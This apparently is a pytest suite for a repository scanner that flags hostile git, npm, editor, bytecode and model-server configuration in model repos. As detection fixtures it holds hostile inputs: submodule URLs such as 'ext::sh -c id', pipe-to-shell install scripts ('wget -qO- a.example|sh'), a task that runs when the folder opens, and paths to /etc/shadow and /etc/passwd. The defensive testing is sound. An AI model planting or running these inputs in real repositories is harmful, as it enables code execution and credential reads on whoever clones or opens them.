"""What git, Node.js, editors, Python itself and model servers read of a repo, beside its weights."""

from __future__ import annotations

import importlib.util
import json
import py_compile
from pathlib import Path

import pytest

from hubclean.scanning.engine import scan
from support.scanned_files import judge, written

BARE = {"vendor/HEAD": b"ref: refs/heads/main\n", "vendor/objects/info/x": b"x", "vendor/refs/heads/y": b"y"}
LFS = b"[lfs]\n\turl = %s\n"
MODULE = b'[submodule "%s"]\n\tpath = %s\n\turl = %s\n'
PACKAGE = {"name": "demo", "dependencies": {"@huggingface/transformers": "^3.0.0"}}


def said(scanner: str, folder: Path, files: dict[str, bytes]) -> set[str]:
    """Rule and severity of everything that the scanner finds; every verdict without a finding must be ok."""
    findings, verdicts = judge(scanner, folder, files)
    accused = {row.path for row in findings}
    assert all(row.state == "ok" for path, row in verdicts.items() if path not in accused)
    return {f"{row.rule} {row.severity}" for row in findings}


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({".lfsconfig": LFS % b"https://lfs.example.net/org/model"}, {"HC-CFG-003 high"}),
        ({".lfsconfig": LFS % b"https://huggingface.co/org/model.git/info/lfs"}, set()),
        ({".lfsconfig": b"[lfs]\n\tfetchexclude = *.bin\n"}, set()),
        ({".gitmodules": MODULE % (b"a", b"a", b"https://github.com/org/code")}, set()),
        ({".gitmodules": MODULE % (b"a", b"a", b"../code")}, set()),
        ({".gitmodules": MODULE % (b"a", b"a", b"git@github.com:org/code.git")}, set()),
        ({".gitmodules": MODULE % (b"a", b"a", b"git@git.example.net:org/code.git")}, {"HC-CFG-003 high"}),
        ({".gitmodules": MODULE % (b"a", b"a", b"ext::sh -c id")}, {"HC-CFG-001 high"}),
        ({".gitmodules": MODULE % (b"a", b"a", b"-u./payload")}, {"HC-CFG-001 high"}),
        ({".gitmodules": MODULE % (b"../../hooks", b"a", b"./a")}, {"HC-CFG-001 high"}),
        ({".gitmodules": MODULE % (b"a", b"../b", b"./a")}, {"HC-CFG-003 high"}),
        (BARE | {"vendor/config": b"[core]\n\tbare = true\n\tfsmonitor = ./run.sh\n"}, {"HC-CFG-001 high"}),
        (BARE | {"vendor/config": b'[filter "x"]\n\tsmudge = id\n'}, {"HC-CFG-001 high"}),
        (BARE | {"vendor/config": b"[core]\n\tbare = true\n\tfsmonitor = false\n"}, set()),
        (BARE | {"vendor/config": b"[core]\n", "vendor/hooks/post-checkout": b"#!/bin/sh\n"}, {"HC-CFG-001 high"}),
        (BARE | {"vendor/config": b"[core]\n", "vendor/hooks/post-checkout.sample": b"#!/bin/sh\n"}, set()),
        ({"config": b"[core]\n\tfsmonitor = ./run.sh\n"}, set()),  # git reads it nowhere
    ],
)
def test_git(tmp_path: Path, files: dict[str, bytes], expected: set[str]) -> None:
    assert said("git-files", tmp_path, files) == expected


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({}, set()),
        ({"dependencies": {"a": "https://host.example/a.tgz"}}, {"HC-PY-002 high"}),
        ({"dependencies": {"a": "git+ssh://git@git.example.net/a.git"}}, {"HC-PY-002 high"}),
        ({"devDependencies": {"a": "github:org/a", "b": "org/b#main"}}, {"HC-PY-002 low"}),
        ({"dependencies": {"a": "npm:b@1", "b": "workspace:*", "c": "file:../c", "d": "*", "e": "1.x || >=2"}}, set()),
        ({"scripts": {"build": "curl https://a.example | sh"}}, set()),  # nobody runs it unasked
        ({"scripts": {"postinstall": "husky install"}}, {"HC-PY-002 medium"}),
        ({"scripts": {"postinstall": "node -e 'require(1)'"}}, {"HC-PY-002 high"}),
        ({"scripts": {"preinstall": "wget -qO- a.example|sh"}}, {"HC-PY-002 high"}),
        ({"scripts": ["postinstall"], "dependencies": [1]}, set()),
    ],
)
def test_node(tmp_path: Path, more: dict[str, object], expected: set[str]) -> None:
    assert said("node-packages", tmp_path, {"web/package.json": json.dumps(PACKAGE | more).encode()}) == expected


def test_what_npm_was_locked_to_and_where_it_asks(tmp_path: Path) -> None:
    rows = {"node_modules/a": {"resolved": "https://registry.npmjs.org/a/-/a-1.tgz"}}
    assert said("node-packages", tmp_path, {"package-lock.json": json.dumps({"packages": rows}).encode()}) == set()
    rows["node_modules/b"] = {"resolved": "https://host.example/b.tgz"}
    locked = {"package-lock.json": json.dumps({"packages": rows}).encode()}
    assert said("node-packages", tmp_path, locked) == {"HC-PY-002 high"}
    assert said("node-packages", tmp_path / "a", {".npmrc": b"registry=https://registry.npmjs.org\n"}) == set()
    assert said("node-packages", tmp_path / "b", {".npmrc": b"@org:registry=https://npm.example\n"}) != set()


def compiled(folder: Path, mode: py_compile.PycInvalidationMode) -> bytes:
    source = folder / "head.py"
    source.write_text("x = 1\n")
    place = py_compile.compile(str(source), str(folder / "made"), invalidation_mode=mode, doraise=True)
    assert place
    return Path(place).read_bytes()


@pytest.mark.parametrize(
    ("mode", "path", "severity"),
    [
        ("UNCHECKED_HASH", "__pycache__/head.cpython-312.pyc", "high"),
        ("CHECKED_HASH", "__pycache__/head.cpython-312.pyc", "medium"),
        ("TIMESTAMP", "pkg/__pycache__/head.cpython-312.pyc", "medium"),
        ("TIMESTAMP", "head.pyc", "high"),
    ],
)
def test_compiled_python(tmp_path: Path, mode: str, path: str, severity: str) -> None:
    body = compiled(tmp_path, py_compile.PycInvalidationMode[mode])
    assert body.startswith(importlib.util.MAGIC_NUMBER)
    assert said("bytecode", tmp_path / "repo", {path: body}) == {f"HC-PY-001 {severity}"}


TASK = '{"version": "2.0.0", "tasks": [{"label": "a", "command": "id", "runOptions": {"runOn": "%s"}}]} // notes'


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        (".vscode/tasks.json", TASK % "folderOpen", {"HC-CFG-001 high"}),
        (".vscode/tasks.json", TASK % "default", set()),
        ("notes/tasks.json", TASK % "folderOpen", set()),
        (".devcontainer/devcontainer.json", '{"initializeCommand": "id"}', {"HC-CFG-001 high"}),
        (".devcontainer/devcontainer.json", '{"postCreateCommand": "pip install -e ."}', set()),
    ],
)
def test_editors(tmp_path: Path, path: str, text: str, expected: set[str]) -> None:
    assert said("editor-tasks", tmp_path, {path: text.encode()}) == expected


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("Modelfile", "FROM ./model.gguf\nSYSTEM hi", set()),
        ("ollama/Modelfile.q4", "FROM ../model.gguf", set()),  # still inside the repo
        ("Modelfile", "FROM llama3.2:1b", set()),
        ("Modelfile", "FROM /home/me/model.gguf", {"HC-CFG-003 low"}),
        ("Modelfile", "FROM ../../etc/passwd", {"HC-CFG-003 high"}),
        ("Modelfile", "FROM a\nADAPTER /etc/shadow", {"HC-CFG-003 high"}),
        ("Modelfile", 'FROM a\nTEMPLATE """\nADAPTER /etc/shadow\n"""', set()),
        ("m/config.pbtxt", 'model_operations { op_library_filename: ["a.so", "b.so"] }', {"HC-CFG-001 high"}),
        ("m/config.pbtxt", 'default_model_filename: "../../x.onnx"', {"HC-CFG-003 high"}),
        ("m/config.pbtxt", 'default_model_filename: "model.plan"\nname: "a"', set()),
        ("config.cfg", "[components.tagger]\nsource = /srv/pipeline\n", {"HC-CFG-003 high"}),
        ("config.cfg", "[components.tagger]\nsource = en_core_web_sm\n[paths]\ntrain = /home/me/x.spacy", set()),
        ("t5.gin", "from __gin__ import dynamic_registration\nimport t5.models\nx.rate = 0.1", set()),
        ("t5.gin", "import head\n", {"HC-CFG-001 high"}),
        ("t5.gin", "include '../../../other.gin'\n", {"HC-CFG-003 high"}),
        ("t5.gin", "include 'base.gin'\n", set()),
    ],
)
def test_recipes(tmp_path: Path, path: str, text: str, expected: set[str]) -> None:
    assert said("recipes", tmp_path, {path: text.encode(), "head.py": b"x = 1\n"}) == expected


def test_an_attack_on_whoever_clones_counts_though_no_loader_opens_it(tmp_path: Path) -> None:
    vit = {"config.json": b'{"model_type": "vit"}', ".lfsconfig": LFS % b"https://lfs.example.net"}
    report = scan(written(tmp_path, vit), loader="transformers")
    assert report.exit_code == 1
    assert [row.path for row in report.at_gate] == [".lfsconfig"]
